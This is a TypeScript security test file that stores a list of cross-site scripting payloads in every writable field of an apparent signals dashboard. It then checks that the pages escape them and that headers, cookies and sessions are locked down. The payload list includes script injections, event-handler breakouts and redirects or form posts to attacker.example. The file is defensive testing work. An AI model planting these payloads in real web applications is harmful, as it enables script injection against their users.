import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import type { Event } from '@signalwright/model';

import { serveOrg, type OrgServer } from '../serve-org.ts';
import { START_MS, loginFailure, loginRule, openTestOrg, type TestOrg } from '../testing/test-org.ts';

const CHROMIUM = '/usr/bin/chromium';

/** Classes of stored scripts: elements, handlers, broken-out attributes, schemes, templates, encodings. */
const PAYLOADS = [
  '<script>window.fired=1;alert(1)</script>',
  '"><script>window.fired=1</script>',
  "'><img src=x onerror=window.fired=1>",
  '<svg/onload=window.fired=1>',
  '</title><script>window.fired=1</script>',
  '</textarea></style></noscript><script>window.fired=1</script>',
  '"autofocus onfocus="window.fired=1',
  'javascript:window.fired=1',
  '<a href="javascript:window.fired=1">x</a>',
  '<iframe srcdoc="<script>parent.fired=1</script>">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><button>x',
  '{{constructor.constructor("window.fired=1")()}}',
  '${window.fired=1}',
  '&lt;script&gt;window.fired=1&lt;/script&gt;',
  '\u003cscript\u003ewindow.fired=1\u003c/script\u003e',
  '<!--><script>window.fired=1</script>',
  '<math><mtext><style><img src=x onerror=window.fired=1>',
  '\u202E<script>window.fired=1</script>',
] as const;

let own: TestOrg;
let server: OrgServer;

beforeAll(async () => {
  own = await openTestOrg();
  const started = await serveOrg(own.org, { port: 0 });
  if (!started.ok) throw new Error(started.refusal.reason);
  server = started.server;
  await attackEveryField();
});

afterAll(async () => {
  await server.close();
  await own.close();
});

/** Each payload in every place that whoever sends requests, names rules or comments can write to. */
async function attackEveryField(): Promise<void> {
  for (const [index, payload] of PAYLOADS.entries()) {
    await own.client.rules.create(
      loginRule({
        name: `${payload.replaceAll('{', '(')}`,
        message: '{{@http.client_ip}} {{@http.user_agent}} {{@usr.id}}',
        tags: [`security:${payload}`, payload],
        queries: [
          {
            name: 'failures',
            query: `@http.case:c${index}`,
            groupByFields: ['service', '@http.client_ip', '@usr.id'],
          },
        ],
        cases: [{ name: payload, condition: 'failures > 0', status: 'high', notifications: [`@${payload}`] }],
      }),
    );
    const event: Event = {
      ...loginFailure(`x${index}`, START_MS, payload, payload),
      service: payload,
      env: payload,
      host: payload,
      tags: [payload, `env:${payload}`],
      attributes: {
        http: { client_ip: payload, user_agent: payload, case: `c${index}`, [payload]: payload },
        usr: { id: payload },
        appsec: { security_activity: payload },
      },
      message: payload,
    };
    await own.client.own.sendSpans([event]);
  }
  await own.org.settle();
  const found = await own.client.signals.search({});
  if (found.kind !== 'done' || found.value.length !== PAYLOADS.length) throw new Error(JSON.stringify(found));
  for (const [index, { id }] of found.value.entries()) {
    const payload = PAYLOADS[index] ?? '';
    await own.client.own.comment(id, { text: payload });
    await own.client.signals.setState(id, {
      state: 'archived',
      archiveReason: 'other',
      archiveComment: payload,
    });
  }
}

async function openSession(): Promise<string> {
  const response = await fetch(server.newLaunchUrl());
  return response.headers.get('set-cookie')?.split(';')[0] ?? '';
}

describe('without a browser', () => {
  test('the page forbids scripts, frames and foreign forms, and is kept by nobody', async () => {
    const response = await fetch(server.url, { headers: { cookie: await openSession() } });
    const policy = response.headers.get('content-security-policy') ?? '';
    for (const part of [
      "default-src 'none'",
      "style-src 'self'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "form-action 'self'",
    ]) {
      expect(policy).toContain(part);
    }
    expect(policy).not.toContain('script-src');
    expect(policy).not.toContain('unsafe');
    expect(response.headers.get('x-frame-options')).toBe('DENY');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
  });

  test('a payload never stands in a page as it was sent', async () => {
    const headers = { cookie: await openSession() };
    const list = await (await fetch(server.url, { headers })).text();
    const ids = [...list.matchAll(/href="\/signals\/([^"]+)"/g)].map((match) => match[1] ?? '');
    expect(ids).toHaveLength(PAYLOADS.length);
    const pages = [list];
    for (const id of ids) {
      pages.push(await (await fetch(`${server.url}/signals/${id}`, { headers })).text());
    }
    for (const text of pages) {
      expect(text).not.toMatch(/<(script|img|svg|iframe|base|math|textarea|noscript|style)\b/i);
      // With the quoted values taken out, what is left of a tag is its name and the names of its attributes.
      const tags = [...text.replaceAll(/"[^"]*"/g, '""').matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag);
      expect(tags.filter((tag) => /\s(on\w+|srcdoc|style)\b/i.test(tag))).toEqual([]);
      expect(text).not.toContain('\u202E');
      expect([...text.matchAll(/<meta /g)]).toHaveLength(3);
      expect([...text.matchAll(/href="(?!\/)/g)]).toEqual([]);
    }
  });

  test('a launch link is good once, and its cookie is strict and out of reach of scripts', async () => {
    const url = server.newLaunchUrl();
    const first = await fetch(url);
    expect(first.status).toBe(200);
    const cookie = first.headers.get('set-cookie') ?? '';
    expect(cookie).toContain('HttpOnly');
    expect(cookie).toContain('SameSite=Strict');
    const second = await fetch(url);
    expect(second.status).toBe(403);
    expect(second.headers.get('set-cookie')).toBeNull();
    expect((await fetch(`${server.url}/launch?code=guess`)).status).toBe(403);
  });

  test('a link that is too old, and a session after its day, are no good', async () => {
    const url = server.newLaunchUrl();
    const cookie = await openSession();
    own.clock.nowMs += 61 * 60_000;
    expect((await fetch(url)).status).toBe(403);
    expect((await fetch(server.url, { headers: { cookie } })).status).toBe(200);
    own.clock.nowMs += 12 * 60 * 60_000;
    expect((await fetch(server.url, { headers: { cookie } })).status).toBe(401);
    own.clock.nowMs = START_MS + 10_000;
  });

  test('the session reads the page and nothing else', async () => {
    const headers = { cookie: await openSession(), 'content-type': 'application/json' };
    for (const [method, path] of [
      ['GET', '/api/v2/security_monitoring/signals'],
      ['POST', '/api/signalwright/denylist'],
      ['POST', '/api/v2/logs'],
    ] as const) {
      const response = await fetch(`${server.url}${path}`, {
        method,
        headers,
        ...(method === 'POST' && { body: '{}' }),
      });
      expect(response.status).toBe(401);
    }
  });

  type QueryRow = [address: string, status: number, shows: string];

  const queryRows: QueryRow[] = [
    ['/?query=status%3Ahigh', 200, 'signals'],
    ['/?query=status%3A(high', 400, 'is never closed'],
    ['/?query=%22%3E%3Cscript%3E', 400, '&lt;script&gt;'],
    ['/?past=7d', 200, 'past 7d'],
    ['/?past=nonsense', 200, 'past 1d'],
    ['/?past=0s', 200, 'No signal matches'],
    ['/?cursor=nonsense', 400, 'damaged'],
    ['/?query=nothing-like-this', 200, 'No signal matches'],
    ['/signals/nothing', 404, 'no such signal'],
    ['/signals/%2e%2e%2f', 404, 'no such signal'],
  ];

  test.each(queryRows)('%s answers %d and shows %j', async (address, status, shows) => {
    const response = await fetch(`${server.url}${address}`, { headers: { cookie: await openSession() } });
    expect(response.status).toBe(status);
    expect(await response.text()).toContain(shows);
  });
});

const hasChromium = existsSync(CHROMIUM);
if (!hasChromium) process.stderr.write(`The page is not tried in a browser: there is no ${CHROMIUM}.\n`);

describe.skipIf(!hasChromium)('in Chromium', () => {
  let browser: Browser;
  let folder: string;
  let page: Page;
  const dialogs: string[] = [];
  const requests: string[] = [];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'chromium-'));
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
      env: { ...process.env, HOME: folder },
    });
    page = await browser.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => requests.push(request.url()));
  }, 60_000);

  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true, force: true });
  });

  test('the launch link leads to the list, and no stored script ever fires', async () => {
    await page.goto(server.newLaunchUrl());
    await page.waitForURL(`${server.url}/`);
    await page.waitForSelector('tbody tr');
    expect(await page.locator('tbody tr').count()).toBe(PAYLOADS.length);
    const addresses = await page
      .locator('td.title a')
      .evaluateAll((links) => links.map((link) => String(link.getAttribute('href'))));
    for (const address of addresses) {
      await page.goto(`${server.url}${address}`);
      expect(await page.evaluate(() => (globalThis as { fired?: number }).fired)).toBeUndefined();
      expect(await page.locator('script, img, iframe, svg, base').count()).toBe(0);
    }
    expect(dialogs).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(server.url))).toEqual([]);
  }, 60_000);

  test('the search box searches, a facet narrows and widens again', async () => {
    await page.goto(`${server.url}/`);
    await page.fill('input[name=query]', 'status:high @workflow.triage.state:archived');
    await page.click('button[type=submit]');
    expect(await page.locator('tbody tr').count()).toBe(PAYLOADS.length);
    await page.click('nav a:has-text("critical")');
    expect(await page.locator('.empty').count()).toBe(1);
    expect(await page.inputValue('input[name=query]')).toContain('status:critical');
    await page.click('nav a:has-text("critical")');
    expect(await page.locator('tbody tr').count()).toBe(PAYLOADS.length);
  }, 60_000);

  test('what an attacker wrote is shown as he wrote it', async () => {
    await page.goto(`${server.url}/?query=${encodeURIComponent('status:high')}`);
    const titles = await page.locator('td.title a').allTextContents();
    expect(titles.some((title) => title.includes('<script>window.fired=1;alert(1)</script>'))).toBe(true);
  }, 60_000);
});
